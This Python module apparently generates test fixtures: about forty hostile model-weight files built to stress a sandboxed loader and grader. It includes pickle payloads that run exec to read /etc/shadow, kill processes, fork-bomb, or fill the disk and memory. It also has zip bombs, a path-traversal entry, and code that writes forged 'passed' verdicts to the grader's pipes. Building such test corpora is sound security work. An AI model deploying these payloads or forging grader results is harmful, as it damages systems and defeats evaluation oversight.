"""Thirty and more files of weights that attack what reads them. `FILES` has what to write, by name.

Pickles carry their attack as the argument of `exec`, run when they are read.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable

import numpy as np
import torch

FORGE = """
import os, struct, json, fcntl
def wire(header):
    text = json.dumps(header).encode()
    return struct.pack("<QI", 0, len(text)) + text
for fd in range(3, 64):
    try:
        kind = os.readlink(f"/proc/self/fd/{fd}").split(":")[0]
        if kind in ("socket", "pipe") and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY:
            os.write(fd, DATA)
    except OSError:
        pass
"""


class Runs:
    """Runs a program when it is unpickled."""

    def __init__(self, program: str) -> None:
        self.program = program

    def __reduce__(self):
        return exec, (self.program, {})


def pickled(program: str) -> bytes:
    return pickle.dumps(Runs(program))


def saved(value: object) -> bytes:
    packed = io.BytesIO()
    torch.save(value, packed)
    return packed.getvalue()


def zipped(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method, compresslevel=9 if method else None) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return packed.getvalue()


def declaring(content: bytes, size: int = 450 << 20) -> bytes:
    """An archive whose directory says that its last entry unpacks to so much."""
    at = content.rindex(b"PK\x01\x02") + 24
    return content[:at] + struct.pack("<I", size) + content[at + 4 :]


def array_head(shape: tuple[int, ...], kind: str = "<f4") -> bytes:
    head = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}".ljust(117).encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head


def safe(header: object, data: bytes = b"", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def tensor(shape: list[int], start: int, end: int) -> dict[str, object]:
    return {"dtype": "F32", "shape": shape, "data_offsets": [start, end]}


def overlapping() -> bytes:
    """A directory of a thousand entries that all lie in the same place."""
    content = zipped({"weights/data/0": bytes(20_000_000)})
    start = content.index(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    entry = content[start:end]
    many = 1000
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, many, many, len(entry) * many, start, 0)
    return content[:start] + entry * many + tail


def deep() -> bytes:
    """A million tuples, each in the next."""
    return b"\x80\x04" + b"N" + b"\x85" * 1_000_000 + b"."


ENDLESS = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
FILES: dict[str, Callable[[], bytes]] = {
    "runs a program": lambda: pickled("import os; os.system('echo passed > /tmp/passed; cat /etc/shadow')"),
    "leaves the process": lambda: pickled("import os; os._exit(0)"),
    "leaves politely": lambda: pickled("raise SystemExit(0)"),
    "interrupts": lambda: pickled("raise KeyboardInterrupt"),
    "kills everybody": lambda: pickled("import os; os.kill(-1, 9)"),
    "kills its parent": lambda: pickled("import os; os.kill(os.getppid(), 9); os.kill(1, 9)"),
    "crashes": lambda: pickled("import ctypes; ctypes.string_at(0)"),
    "forks": lambda: pickled("import os\nfor _ in range(12):\n    os.fork()"),
    "starts threads": lambda: pickled(
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "writes outside": lambda: pickled("open('/etc/passwd', 'a').write('x')"),
    "writes over the grader": lambda: pickled("import grader; open(grader.__file__, 'w').write('x')"),
    "fills the disk": lambda: pickled("f = open('/tmp/big', 'wb')\nwhile True: f.write(bytes(1 << 20))"),
    "opens the network": lambda: pickled("import socket; socket.create_connection(('1.1.1.1', 80), 2)"),
    "never ends": lambda: pickled("while True: pass"),
    "never ends, whatever is raised": lambda: pickled(ENDLESS),
    "sleeps": lambda: pickled("import time; time.sleep(10**6)"),
    "takes all memory at once": lambda: pickled("bytearray(10**13)"),
    "takes all memory by and by": lambda: pickled("kept = []\nwhile True: kept.append(bytearray(1 << 24))"),
    "prints without end": lambda: pickled("while True: print('x' * 100000)"),
    "forges frames that are none": lambda: pickled(FORGE.replace("DATA", "b'\\xff' * 4096")),
    "forges an end": lambda: pickled(FORGE.replace("DATA", "wire({'end': 'exited'})")),
    "forges a verdict": lambda: pickled(
        FORGE.replace("DATA", "wire({'frame': {'kind': 'ask', 'outcome': 'passed', 'points': 99}})")
    ),
    "raises what has no words": lambda: pickled(
        "class E(BaseException):\n    def __str__(self): raise SystemExit\nraise E"
    ),
    "is nested a million times": deep,
    "is a bomb of a PyTorch file": lambda: declaring(zipped({"a/data.pkl": b"\x80\x02}.", "a/data/0": bytes(9 << 20)})),
    "is a bomb of arrays": lambda: declaring(zipped({"w.npy": array_head((10**8,)) + bytes(9 << 20)})),
    "has an array larger than it": lambda: zipped({"w.npy": array_head((10**12,)) + bytes(64)}),
    "has arrays of objects": lambda: zipped({"w.npy": array_head((1,), "|O") + pickled("raise SystemExit")}),
    "has parts that overlap": overlapping,
    "leads outside": lambda: zipped(
        {"../../../../etc/data.pkl": b"\x80\x02}.", "a/data.pkl": b"\x80\x02cos\nsystem\n."}
    ),
    "has a header longer than it": lambda: safe({"w": tensor([4], 0, 16)}, bytes(16), length=2**60),
    "has tensors past its end": lambda: safe({"w": tensor([10**9], 0, 4 * 10**9)}, bytes(16)),
    "has tensors that overlap": lambda: safe({"a": tensor([4], 0, 16), "b": tensor([4], 0, 16)}, bytes(16)),
    "has a header that nests": lambda: safe(b'{"' + b'a":{"' * 100_000, bytes(16)),
    "has a tensor of a number repeated": lambda: saved({"w": torch.zeros(1).expand(10**12)}),
    "has a tensor without numbers": lambda: saved({"w": torch.empty(5, device="meta")}),
    "has names of a million letters": lambda: saved({"w" * 1_000_000: torch.zeros(2), "\x1b[2J\x00": torch.zeros(2)}),
    "was cut off": lambda: saved({"w": torch.zeros(1000)})[:1500],
    "is a text": lambda: b"import torch\n",
    "is noise": lambda: np.random.default_rng(0).bytes(5000),
}
